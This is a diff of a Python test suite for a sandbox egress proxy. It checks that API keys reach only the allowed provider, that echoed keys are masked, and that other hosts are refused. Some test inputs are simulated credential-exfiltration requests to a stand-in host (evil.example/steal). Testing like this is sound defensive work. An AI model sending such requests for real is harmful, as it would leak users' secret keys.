@@ -22,6 +22,7 @@ from conclave.clis.cli_adapter import PLACEHOLDER_KEY
 from conclave.sandbox.allowlist import allowlist_for
 from conclave.sandbox.egress import EgressProxy, egress_proxy
 from conclave.sandbox.provider_key import KeyScrubber, ProviderKey
+from conclave.sandbox.route import DirectRoute
 from tests.fakes.redirect import ProviderRedirect
 from tests.fakes.tls_ca import TestCa
 from tests.test_egress import ask, connected
@@ -121,7 +122,7 @@ async def test_a_request_to_the_bridge_reaches_the_provider_with_the_real_key(
         "Accept-Encoding: gzip, br\r\n"
         "Content-Length: 2\r\n\r\n{}"
     )
-    async with egress_proxy(allowlist_for("claude-code", base_url=url)) as proxy:
+    async with egress_proxy(allowlist_for("claude-code", base_url=url), route=DirectRoute()) as proxy:
         proxy.serve_key(ProviderKey(url, KEY, "anthropic"))
         reply = await ask(proxy, request.encode())
         await quiet(proxy)
@@ -149,7 +150,7 @@ async def test_a_large_request_body_reaches_the_provider_whole(tmp_path: Path, p
         f"POST /v1/responses HTTP/1.1\r\nAuthorization: Bearer {PLACEHOLDER_KEY}\r\n"
         f"Content-Length: {len(body)}\r\n\r\n"
     )
-    async with egress_proxy(allowlist_for("codex", base_url=url)) as proxy:
+    async with egress_proxy(allowlist_for("codex", base_url=url), route=DirectRoute()) as proxy:
         proxy.serve_key(ProviderKey(url + "/v1", KEY, "openai"))
         reply = await ask(proxy, head.encode() + body)
         await quiet(proxy)
@@ -164,7 +165,7 @@ async def test_a_streamed_response_passes_through_chunk_by_chunk(tmp_path: Path,
     request = (
         f"POST /v1/messages?stream=1 HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\nContent-Length: 0\r\n\r\n"
     )
-    async with egress_proxy(allowlist_for("claude-code", base_url=url)) as proxy:
+    async with egress_proxy(allowlist_for("claude-code", base_url=url), route=DirectRoute()) as proxy:
         proxy.serve_key(ProviderKey(url, KEY, "anthropic"))
         with anyio.fail_after(20):
             async with connected(proxy) as client:
@@ -184,7 +185,7 @@ async def test_a_key_echoed_in_the_response_is_masked_on_the_way_back(
     request = (
         f"POST /v1/messages?echo=1 HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\nContent-Length: 0\r\n\r\n"
     )
-    async with egress_proxy(allowlist_for("claude-code", base_url=url)) as proxy:
+    async with egress_proxy(allowlist_for("claude-code", base_url=url), route=DirectRoute()) as proxy:
         proxy.serve_key(ProviderKey(url, KEY, "anthropic"))
         reply = await ask(proxy, request.encode())
         await quiet(proxy)
@@ -215,7 +216,9 @@ async def test_other_hosts_are_still_refused_and_logged_without_path_or_key(
         "bridge-port-elsewhere": "GET http://evil.example:3128/steal HTTP/1.1\r\n" + credential,
     }[kind]
     caplog.set_level(logging.INFO, logger="conclave.sandbox.egress")
-    async with egress_proxy(allowlist_for("claude-code", base_url=url), label="cj-1/A") as proxy:
+    async with egress_proxy(
+        allowlist_for("claude-code", base_url=url), route=DirectRoute(), label="cj-1/A"
+    ) as proxy:
         proxy.serve_key(ProviderKey(url, KEY, "anthropic"))
         reply = await ask(proxy, target.encode())
         await quiet(proxy)
@@ -231,7 +234,7 @@ async def test_a_tunnel_to_the_bridge_carries_only_a_request_to_the_bridge(
 ) -> None:
     url = f"http://127.0.0.1:{provider.port}"
     inner = f"GET http://evil.example/ HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\n\r\n"
-    async with egress_proxy(allowlist_for("claude-code", base_url=url)) as proxy:
+    async with egress_proxy(allowlist_for("claude-code", base_url=url), route=DirectRoute()) as proxy:
         proxy.serve_key(ProviderKey(url, KEY, "anthropic"))
         reply = await ask(proxy, b"CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n" + inner.encode())
         await quiet(proxy)
@@ -244,7 +247,7 @@ async def test_without_a_key_held_a_request_to_the_bridge_is_refused(
 ) -> None:
     """A plan login's proxy holds no key: the bridge is no way to reach anything."""
     async with egress_proxy(
-        allowlist_for("claude-code", base_url=f"http://127.0.0.1:{provider.port}")
+        allowlist_for("claude-code", base_url=f"http://127.0.0.1:{provider.port}"), route=DirectRoute()
     ) as proxy:
         reply = await ask(proxy, b"POST /v1/messages HTTP/1.1\r\n\r\n")
         tunnel = await ask(proxy, b"CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n")
